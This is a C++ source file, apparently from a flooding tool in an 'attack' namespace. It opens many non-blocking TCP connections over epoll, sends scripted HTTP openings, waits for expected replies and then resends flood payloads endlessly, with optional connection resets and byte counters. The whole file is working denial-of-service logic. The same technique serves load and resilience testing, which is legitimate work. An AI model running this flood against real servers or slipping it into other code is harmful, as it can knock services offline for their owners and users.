#include "flood.hpp"

#include "http.hpp"

#include <array>
#include <cerrno>

#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>

namespace attack {
namespace {

enum class Stage { opening, second, flooding };

struct Connection {
  int fd = -1;
  const Script* script = nullptr;
  Stage stage = Stage::opening;
  std::string answer;  // while something is waited for
  std::string own_flood;
  std::size_t sent = 0;  // of the present text
};

class Flood {
 public:
  Flood(const Attack& attack, const std::string& source, std::uint16_t port, std::size_t count,
        Score& score)
      : source_(source),
        port_(port),
        score_(score),
        epoll_(epoll_create1(EPOLL_CLOEXEC)),
        connections_(count),
        buffer_(256 * 1024) {
    for (std::size_t i = 0; i < count; ++i) {
      connections_[i].script = &attack.scripts[i % attack.scripts.size()];
    }
  }
  Flood(const Flood&) = delete;
  Flood& operator=(const Flood&) = delete;
  ~Flood() {
    for (Connection& one : connections_) {
      if (one.fd >= 0) close(one.fd);
    }
    close(epoll_);
  }

  void run(const std::atomic<bool>& stop) {
    std::array<epoll_event, 256> events;
    while (!stop) {
      for (Connection& one : connections_) {
        if (one.fd < 0) begin(one);
      }
      const int count = epoll_wait(epoll_, events.data(), events.size(), 20);
      for (int i = 0; i < count && !stop; ++i) {
        Connection& one = *static_cast<Connection*>(events[static_cast<std::size_t>(i)].data.ptr);
        if (one.fd >= 0) serve(one, events[static_cast<std::size_t>(i)].events);
      }
    }
  }

 private:
  void begin(Connection& one) {
    one.fd = connect_from(source_, port_, false);
    if (one.fd < 0) {
      ++score_.failures;
      return;
    }
    one.stage = Stage::opening;
    one.answer.clear();
    one.sent = 0;
    epoll_event event{};
    event.events = EPOLLIN | EPOLLOUT | EPOLLET;
    event.data.ptr = &one;
    epoll_ctl(epoll_, EPOLL_CTL_ADD, one.fd, &event);
  }

  void end(Connection& one) {
    if (one.script->resets) {
      const linger now{1, 0};
      setsockopt(one.fd, SOL_SOCKET, SO_LINGER, &now, sizeof now);
    }
    close(one.fd);
    one.fd = -1;
    ++score_.connections;
  }

  const std::string& text(const Connection& one) const {
    if (one.stage == Stage::opening) return one.script->opening;
    if (one.stage == Stage::second) return one.script->second;
    return one.own_flood.empty() ? one.script->flood : one.own_flood;
  }
  const std::string* awaited(const Connection& one) const {
    if (one.stage == Stage::opening) return &one.script->until;
    if (one.stage == Stage::second) return &one.script->until_second;
    return nullptr;
  }

  void serve(Connection& one, std::uint32_t events) {
    if ((events & (EPOLLERR | EPOLLHUP)) != 0) return end(one);
    if ((events & EPOLLIN) != 0 && !read(one)) return end(one);
    if (!write(one)) end(one);
  }

  static bool is_refusal(const std::string& answer) {
    return answer.starts_with("HTTP/1.1 4") || answer.starts_with("HTTP/1.1 5");
  }

  // False: the connection is over.
  bool read(Connection& one) {
    for (;;) {
      const bool looks = awaited(one) != nullptr || !one.script->over.empty();
      // What nobody looks at is not even copied.
      const int flags = MSG_DONTWAIT | (looks ? 0 : MSG_TRUNC);
      const ssize_t n = recv(one.fd, buffer_.data(), buffer_.size(), flags);
      if (n == 0) return false;
      if (n < 0) return errno == EAGAIN;
      score_.bytes_in += static_cast<std::uint64_t>(n);
      if (!looks) continue;
      const std::string_view got(buffer_.data(), static_cast<std::size_t>(n));
      if (awaited(one) != nullptr) {
        one.answer.append(got);
        if (is_refusal(one.answer)) return false;
      } else if (got.find(one.script->over) != std::string_view::npos) {
        return false;
      }
    }
  }

  bool write(Connection& one) {
    // So that one connection does not keep the others waiting.
    for (int times = 0; times < 4;) {
      const std::string& all = text(one);
      if (one.sent < all.size()) {
        const ssize_t n =
            send(one.fd, all.data() + one.sent, all.size() - one.sent, MSG_DONTWAIT | MSG_NOSIGNAL);
        if (n < 0) return errno == EAGAIN;
        score_.bytes_out += static_cast<std::uint64_t>(n);
        one.sent += static_cast<std::size_t>(n);
        if (one.sent < all.size()) return true;
      }
      if (const std::string* wanted = awaited(one)) {
        if (one.answer.find(*wanted) == std::string::npos) return true;
        advance(one);
        if (one.stage == Stage::flooding && text(one).empty()) return false;
        continue;
      }
      one.sent = 0;
      ++times;
    }
    // By edge: asked for again, since the socket may take more.
    epoll_event event{};
    event.events = EPOLLIN | EPOLLOUT | EPOLLET;
    event.data.ptr = &one;
    epoll_ctl(epoll_, EPOLL_CTL_MOD, one.fd, &event);
    return true;
  }

  void advance(Connection& one) {
    one.stage = one.stage == Stage::opening && !one.script->second.empty() ? Stage::second
                                                                           : Stage::flooding;
    one.sent = 0;
    if (one.stage == Stage::flooding && one.script->flood_for) {
      one.own_flood = one.script->flood_for(one.answer);
    }
    one.answer.clear();
  }

  const std::string source_;
  const std::uint16_t port_;
  Score& score_;
  const int epoll_;
  std::vector<Connection> connections_;
  std::vector<char> buffer_;
};

}  // namespace

void run_flood(const Attack& attack, const std::string& source, std::uint16_t port,
               std::size_t connections, Score& score, const std::atomic<bool>& stop) {
  Flood(attack, source, port, connections, score).run(stop);
}

}  // namespace attack
